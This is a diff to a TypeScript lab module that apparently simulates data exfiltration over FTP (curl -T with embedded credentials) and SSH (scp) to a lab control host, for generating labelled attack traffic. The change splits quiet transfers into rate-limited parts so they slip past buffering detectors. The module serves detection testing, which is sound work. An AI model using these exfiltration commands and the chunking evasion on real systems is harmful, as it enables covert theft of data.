@@ -5,13 +5,15 @@ import { isOpen, place } from '../services/daemon.ts';
 import { ftpServer } from '../services/ftp-server.ts';
 import { account } from '../services/own-folder.ts';
 import { personalKey, sshServer } from '../services/ssh-server.ts';
-import { curl } from './errands.ts';
+import { curl, inParts } from './errands.ts';
 
-/** Bytes, and how many of them in a second. */
-const plans: Readonly<Record<Intensity, { readonly bytes: number; readonly bytesPerSecond: number }>> = {
-  quiet: { bytes: 240_000, bytesPerSecond: 5000 },
-  medium: { bytes: 1_000_000, bytesPerSecond: 60_000 },
-  loud: { bytes: 3_000_000, bytesPerSecond: 400_000 },
+type Plan = { readonly parts: number; readonly bytes: number; readonly bytesPerSecond: number };
+
+/** Buffers swallow small files whole, whatever the rate: what is quiet comes in parts. */
+const plans: Readonly<Record<Intensity, Plan>> = {
+  quiet: { parts: 10, bytes: 24_000, bytesPerSecond: 20_000 },
+  medium: { parts: 2, bytes: 600_000, bytesPerSecond: 60_000 },
+  loud: { parts: 1, bytes: 3_000_000, bytesPerSecond: 400_000 },
 };
 const ftpPort = 21;
 const passivePorts = { first: 40_000, count: 1000 } as const;
@@ -30,18 +32,19 @@ export const exfiltrationByFtp: Attack = {
   intensities: ['quiet', 'medium', 'loud'],
   actor: 'desktop',
   targets: ['control'],
-  async run({ lab, actor, targets, intensity, random, seconds, signal }) {
+  async run(order) {
+    const { lab, actor, targets, intensity, random, seconds, signal } = order;
     const control = targets[0] ?? lab.host('control');
     await ensure(ftpServer, lab, control, ftpPort);
-    const { bytes, bytesPerSecond } = plans[intensity];
+    const { parts, bytes, bytesPerSecond } = plans[intensity];
     const loot = place(actor, 'loot', 'ftp.bin', random.bytes(bytes));
     const where = `ftp://${account.user}:${account.password}@${control.address}/files/loot.bin`;
     const words = ['-T', loot, '--limit-rate', String(bytesPerSecond), where];
-    await curl(actor, words, { signal, seconds });
+    await inParts(order, parts, () => curl(actor, words, { signal, seconds }));
     const data = Array.from({ length: passivePorts.count }, (_, index) => passivePorts.first + index);
     return {
       tool: 'curl',
-      arguments: words.join(' '),
+      arguments: `${parts} times: ${words.join(' ')}`,
       claims: [
         {
           actors: [actor.address],
@@ -61,10 +64,11 @@ export const exfiltrationBySsh: Attack = {
   intensities: ['quiet', 'medium', 'loud'],
   actor: 'laptop',
   targets: ['control'],
-  async run({ lab, actor, targets, intensity, random, seconds, signal }) {
+  async run(order) {
+    const { lab, actor, targets, intensity, random, seconds, signal } = order;
     const control = targets[0] ?? lab.host('control');
     await ensure(sshServer, lab, control, sshPort);
-    const { bytes, bytesPerSecond } = plans[intensity];
+    const { parts, bytes, bytesPerSecond } = plans[intensity];
     const loot = place(actor, 'loot', 'ssh.bin', random.bytes(bytes));
     const words = [
       '-q',
@@ -82,10 +86,10 @@ export const exfiltrationBySsh: Attack = {
       loot,
       `${account.user}@${control.address}:loot.bin`,
     ];
-    await actor.machine.attempt('scp', words, { signal, seconds });
+    await inParts(order, parts, () => actor.machine.attempt('scp', words, { signal, seconds }));
     return {
       tool: 'scp',
-      arguments: words.join(' '),
+      arguments: `${parts} times: ${words.join(' ')}`,
       claims: [
         { actors: [actor.address], targets: [control.address], protocol: 'tcp', targetPorts: [sshPort] },
       ],
